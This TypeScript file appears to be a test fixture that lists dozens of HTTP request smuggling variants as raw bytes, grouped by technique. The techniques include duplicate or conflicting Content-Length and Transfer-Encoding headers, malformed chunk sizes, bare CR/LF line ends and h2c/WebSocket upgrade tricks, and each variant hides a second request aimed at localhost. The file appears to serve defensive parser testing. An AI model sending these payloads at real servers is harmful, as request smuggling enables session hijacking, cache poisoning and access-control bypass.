/** What is told apart in the table of attacks. */
export type SmugglingGroup =
  | 'both lengths'
  | 'transfer coding'
  | 'content length'
  | 'line ends'
  | 'chunks'
  | 'versions';

/** One form of a request that two readers may take for two different ones. */
export interface SmugglingForm {
  readonly group: SmugglingGroup;
  /** Itself, as bytes in Latin-1. */
  readonly bytes: string;
}

/** What an attacker wants the API to take for a request of its own. */
const HIDDEN = 'GET /api/users/me?smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n';

const HEAD = 'POST /api/users HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n';
const CHUNKED = 'Transfer-Encoding: chunked\r\n';
/** An empty body in chunks, and what follows it. */
const NO_CHUNKS = `0\r\n\r\n${HIDDEN}`;
/** As long as what is hidden: to a reader of the length, it is a body. */
const WHOLE_LENGTH = `Content-Length: ${NO_CHUNKS.length}\r\n`;

/** Header fields that say `chunked` to one reader and not to another, each with a length that says something else. */
const codings = [
  CHUNKED,
  'Transfer-Encoding:\tchunked\r\n',
  'Transfer-Encoding:chunked\r\n',
  'transfer-encoding: CHUNKED\r\n',
  'Transfer-Encoding : chunked\r\n',
  'Transfer-Encoding\t: chunked\r\n',
  'Transfer-Encoding:\x0bchunked\r\n',
  'Transfer-Encoding: \x00chunked\r\n',
  'Transfer-Encoding: chunked\x00\r\n',
  'Transfer-Encoding\x00: chunked\r\n',
  'Transfer-Encoding: xchunked\r\n',
  'Transfer-Encoding: chunk\r\n',
  'Transfer-Encoding: chunked, identity\r\n',
  'Transfer-Encoding: identity, chunked\r\n',
  'Transfer-Encoding: gzip, chunked\r\n',
  'Transfer-Encoding: "chunked"\r\n',
  'Transfer-Encoding: chunked;q=1\r\n',
  'Transfer-Encoding:\r\n',
  'Transfer_Encoding: chunked\r\n',
  `${CHUNKED}${CHUNKED}`,
  `${CHUNKED}Transfer-Encoding: x\r\n`,
  `Transfer-Encoding: x\r\n${CHUNKED}`,
  'Transfer-Encoding:\r\n chunked\r\n',
  'Transfer-Encoding:\n chunked\r\n',
  'X: y\nTransfer-Encoding: chunked\r\n',
  'X: y\rTransfer-Encoding: chunked\r\n',
  ' Transfer-Encoding: chunked\r\n',
];

const lengths = [
  'Content-Length: 4\r\nContent-Length: 5\r\n',
  'Content-Length: 4\r\nContent-Length: 4\r\n',
  'Content-Length: 4, 4\r\n',
  'Content-Length: 4, 5\r\n',
  'Content-Length: 4 5\r\n',
  'Content-Length: +4\r\n',
  'Content-Length: -4\r\n',
  'Content-Length: 0x4\r\n',
  'Content-Length: 4.0\r\n',
  'Content-Length: 4e0\r\n',
  'Content-Length:\r\n',
  'Content-Length: 18446744073709551620\r\n',
  'Content-Length : 4\r\n',
  'Content-Length\t: 4\r\n',
  'Content-Length:\r\n 4\r\n',
  'Content-Length: 4\x00\r\n',
  'Content_Length: 4\r\n',
];

/** Bodies in chunks that are not what RFC 9112, section 7.1, has, each with a request hidden behind or inside. */
const chunks = [
  `4;a=b\r\nabcd\r\n${NO_CHUNKS}`,
  `4;\nabcd\r\n${NO_CHUNKS}`,
  `4;a\rb\r\nabcd\r\n${NO_CHUNKS}`,
  `0000000000000000004\r\nabcd\r\n${NO_CHUNKS}`,
  `0x4\r\nabcd\r\n${NO_CHUNKS}`,
  `4 \r\nabcd\r\n${NO_CHUNKS}`,
  ` 4\r\nabcd\r\n${NO_CHUNKS}`,
  `+4\r\nabcd\r\n${NO_CHUNKS}`,
  `-4\r\nabcd\r\n${NO_CHUNKS}`,
  `4xyz\r\nabcd\r\n${NO_CHUNKS}`,
  `ffffffffffffffff4\r\nabcd\r\n${NO_CHUNKS}`,
  `4\nabcd\r\n${NO_CHUNKS}`,
  `4\r\nabcd\n${NO_CHUNKS}`,
  `4\r\nabcd${NO_CHUNKS}`,
  `4\r\rabcd\r\n${NO_CHUNKS}`,
  `0\r\nContent-Length: 60\r\n\r\n${HIDDEN}`,
  `0\r\n${HIDDEN}`,
  `0\n\n${HIDDEN}`,
];

const lineEnds = [
  `${HEAD}X: y\r\n folded\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replaceAll('\r\n', '\n')}Content-Length: 0\n\n${HIDDEN}`,
  `${HEAD}Content-Length: 0\n\n${HIDDEN}`,
  `${HEAD}X: y\rz\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}no colon here\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}X: y\x00\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('Host', ' Host')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}: no name\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}Content-Length: 0\r\n\r\r\n\n${HIDDEN}`,
];

const versions = [
  `${HEAD.replace('Connection: close', 'Connection: close, Upgrade, HTTP2-Settings')}Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('close', 'close, Upgrade')}Upgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('1.1', '1.0')}${CHUNKED}\r\n${NO_CHUNKS}`,
  `${HEAD.replace('1.1', '1.2')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('HTTP/1.1', 'HTTP/01.1')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace(' HTTP/1.1', '  HTTP/1.1')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace(' HTTP/1.1', '\tHTTP/1.1')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('/api/users', '/api/users HTTP/1.1\tx')}Content-Length: 0\r\n\r\n${HIDDEN}`,
  `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('/api/users', 'https://localhost/api/users')}Host: other\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}Host: localhost\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('POST', 'GET')}Content-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `${HEAD.replace('POST', 'HEAD')}Content-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `POST /api/users\r\n${HIDDEN}`,
];

/** All of them. */
export const smugglingForms: readonly SmugglingForm[] = [
  ...grouped('both lengths', [
    `${HEAD}${WHOLE_LENGTH}${CHUNKED}\r\n${NO_CHUNKS}`,
    `${HEAD}${CHUNKED}${WHOLE_LENGTH}\r\n${NO_CHUNKS}`,
    `${HEAD}Content-Length: 4\r\n${CHUNKED}\r\n${chunkOf(HIDDEN)}`,
    `${HEAD}${CHUNKED}Content-Length: 4\r\n\r\n${chunkOf(HIDDEN)}`,
  ]),
  ...grouped(
    'transfer coding',
    codings.flatMap((coding) => [
      `${HEAD}${WHOLE_LENGTH}${coding}\r\n${NO_CHUNKS}`,
      `${HEAD}${coding}\r\n${NO_CHUNKS}`,
    ]),
  ),
  ...grouped(
    'content length',
    lengths.map((length) => `${HEAD}${length}\r\nabcd${HIDDEN}`),
  ),
  ...grouped(
    'chunks',
    chunks.map((body) => `${HEAD}${CHUNKED}\r\n${body}`),
  ),
  ...grouped('line ends', lineEnds),
  ...grouped('versions', versions),
];

function grouped(group: SmugglingGroup, forms: readonly string[]): readonly SmugglingForm[] {
  return forms.map((bytes) => ({ group, bytes }));
}

function chunkOf(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
}
